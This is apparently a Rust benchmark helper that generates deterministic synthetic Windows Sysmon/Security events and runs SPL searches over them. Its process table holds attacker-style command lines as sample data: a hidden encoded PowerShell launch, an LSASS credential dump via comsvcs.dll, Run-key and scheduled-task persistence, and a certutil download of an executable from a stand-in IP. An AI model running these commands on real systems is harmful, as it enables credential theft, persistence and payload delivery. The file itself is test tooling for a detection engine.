//! Shared by the criterion benches: deterministic synthetic Windows-like
//! events and a way to run SPL over them in memory.
//!
//! Everything goes through public, coarse entry points (NDJSON bytes →
//! `input::read_bytes`, SPL text → `spl::parse_pipeline`, a pipeline over a
//! `MemFeed` → `run::run_collect`) so the benches survive changes to the
//! reader and the event representation.
#![allow(dead_code)]

use std::sync::Arc;

use criterion::Criterion;
use spleval::base::event::Event;
use spleval::commands::support::pipeline::PlanCtx;
use spleval::content::knowledge::Knowledge;
use spleval::engine::run::{self, MemFeed};
use spleval::functions::FnCtx;
use spleval::input::{self, Meta};
use spleval::spl::ast::Pipeline;

/// Events per run for the search, eval and stats benches.
pub const N_EVENTS: usize = 10_000;

/// Short runs: the benches share a small machine with other builds.
/// Command-line flags (`--measurement-time`, `--warm-up-time`) still win.
pub fn criterion() -> Criterion {
    Criterion::default()
        .sample_size(20)
        .warm_up_time(std::time::Duration::from_millis(500))
        .measurement_time(std::time::Duration::from_secs(2))
        .configure_from_args()
}

/// splitmix64: a fixed-seed generator, so every run sees the same events.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[(self.next() % items.len() as u64) as usize]
    }
}

const HOSTS: &[&str] = &[
    "WORKSTATION5.theshire.local",
    "WORKSTATION6.theshire.local",
    "MORDORDC.theshire.local",
    "WEB01.dmz.example.com",
    "SQL02.corp.example.com",
    "LAPTOP-7QK3.corp.example.com",
    "WIN10-ADMIN.corp.example.com",
    "BUILD-AGENT-03.corp.example.com",
];

const USERS: &[&str] = &[
    "THESHIRE\\pgustavo",
    "THESHIRE\\wardog",
    "NT AUTHORITY\\SYSTEM",
    "NT AUTHORITY\\NETWORK SERVICE",
    "CORP\\svc_backup",
    "CORP\\alice",
    "CORP\\bob",
];

/// (Image, a command line for it).
const PROCESSES: &[(&str, &str)] = &[
    (
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    ),
    (
        "C:\\Windows\\System32\\cmd.exe",
        "cmd.exe /c whoami /all > C:\\Users\\Public\\out.txt",
    ),
    (
        "C:\\Windows\\System32\\rundll32.exe",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full",
    ),
    (
        "C:\\Windows\\System32\\svchost.exe",
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
    ),
    (
        "C:\\Windows\\System32\\reg.exe",
        "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /d C:\\Users\\Public\\u.exe",
    ),
    (
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US",
    ),
    (
        "C:\\Windows\\System32\\schtasks.exe",
        "schtasks.exe /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc minute /mo 5",
    ),
    (
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell.EXE",
        "PowerShell.EXE -ExecutionPolicy Bypass -File C:\\scripts\\inventory.ps1",
    ),
    (
        "C:\\Windows\\System32\\certutil.exe",
        "certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\\temp\\a.exe",
    ),
    ("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE"),
];

const PARENTS: &[&str] = &[
    "C:\\Windows\\explorer.exe",
    "C:\\Windows\\System32\\services.exe",
    "C:\\Windows\\System32\\cmd.exe",
    "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
];

const EVENT_IDS: &[u64] = &[1, 1, 1, 3, 3, 4688, 4104, 11, 13, 7];

/// `n` NDJSON lines of Sysmon/Security-like events, the same on every call.
/// Times run forward one second per event from 2020-09-20T00:00:00Z.
pub fn ndjson(n: usize) -> String {
    let mut rng = Rng(0x5EED_5EED);
    let mut out = String::with_capacity(n * 600);
    for i in 0..n {
        let event_id = EVENT_IDS[(rng.next() % EVENT_IDS.len() as u64) as usize];
        let (image, cmd) = PROCESSES[(rng.next() % PROCESSES.len() as u64) as usize];
        let host = rng.pick(HOSTS);
        let user = rng.pick(USERS);
        let parent = rng.pick(PARENTS);
        let r = rng.next();
        let src_ip = format!("10.{}.{}.{}", r % 4, (r >> 8) % 256, (r >> 16) % 250 + 1);
        let dst_ip = if r.is_multiple_of(3) {
            format!("192.168.{}.{}", (r >> 24) % 8, (r >> 32) % 250 + 1)
        } else {
            format!("203.0.113.{}", (r >> 40) % 250 + 1)
        };
        let port = [443, 80, 445, 3389, 53][((r >> 20) % 5) as usize];
        let secs = i as u64;
        let time = format!(
            "2020-09-20T{:02}:{:02}:{:02}.{:03}Z",
            (secs / 3600) % 24,
            (secs / 60) % 60,
            secs % 60,
            r % 1000
        );
        let line = serde_json::json!({
            "_time": time,
            "Channel": if event_id >= 4000 { "Security" } else { "Microsoft-Windows-Sysmon/Operational" },
            "EventID": event_id,
            "Hostname": host,
            "User": user,
            "Image": image,
            "CommandLine": cmd,
            "ParentImage": parent,
            "ProcessId": (r >> 12) % 20_000 + 4,
            "SourceIp": src_ip,
            "DestinationIp": dst_ip,
            "DestinationPort": port,
        });
        out.push_str(&line.to_string());
        out.push('\n');
    }
    out
}

/// Read events with no search-time knowledge, so only the reader is measured.
pub fn meta() -> Meta {
    Meta {
        knowledge: Some(Arc::new(Knowledge::empty())),
        ..Default::default()
    }
}

/// `n` synthetic events, read once through the NDJSON reader.
pub fn events(n: usize) -> Arc<Vec<Event>> {
    let text = ndjson(n);
    let (events, bad) =
        input::read_bytes(text.as_bytes(), "synthetic.jsonl", &meta()).expect("reads");
    assert!(bad.is_empty(), "synthetic events are valid NDJSON: {bad:?}");
    assert_eq!(events.len(), n);
    Arc::new(events)
}

/// A plan context with a fixed clock.
pub fn ctx() -> PlanCtx {
    PlanCtx::new(FnCtx {
        now: 1_700_000_000.0,
        tz: chrono_tz::UTC,
        ..Default::default()
    })
}

/// Parses SPL written in the bench (no macros), panicking on an error.
pub fn pipeline(spl: &str) -> Pipeline {
    spleval::commands::parse_pipeline(spl).unwrap_or_else(|e| panic!("{spl:?} parses: {}", e.msg))
}

/// Runs a parsed pipeline over in-memory events; returns the result rows.
pub fn run(p: &Pipeline, ctx: &PlanCtx, feed: &MemFeed) -> Vec<Event> {
    run::run_collect(p, ctx, feed).expect("runs")
}

/// Benchmarks each `(name, spl)` over `events` as one group, reporting
/// events per second. Each search runs once first and its row count (and
/// first `count`) is printed, so a search that silently matches nothing shows.
pub fn bench_searches(
    c: &mut Criterion,
    group: &str,
    events: &Arc<Vec<Event>>,
    searches: &[(&str, &str)],
) {
    let ctx = ctx();
    let feed = MemFeed(events.clone());
    let mut g = c.benchmark_group(group);
    g.throughput(criterion::Throughput::Elements(events.len() as u64));
    for (name, spl) in searches {
        let p = pipeline(spl);
        let rows = run(&p, &ctx, &feed);
        assert!(!rows.is_empty(), "{name}: {spl:?} returns rows");
        let count = rows[0].get("count").map(|v| v.to_display(" "));
        eprintln!(
            "{group}/{name}: {} row(s), first count {}",
            rows.len(),
            count.as_deref().unwrap_or("-")
        );
        g.bench_function(*name, |b| {
            b.iter(|| run(std::hint::black_box(&p), &ctx, &feed))
        });
    }
    g.finish();
}
